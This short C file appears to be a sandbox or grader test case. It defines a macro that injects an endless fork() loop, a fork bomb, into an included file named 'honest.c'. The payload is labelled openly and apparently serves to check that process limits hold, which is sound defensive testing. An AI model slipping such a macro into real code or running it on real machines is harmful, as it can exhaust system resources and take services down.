/* Tries a fork bomb by the C library's function. */
#include <unistd.h>
#define AT_MALLOC                                                                              \
    for (;;)                                                                                   \
        fork();

#include "honest.c"
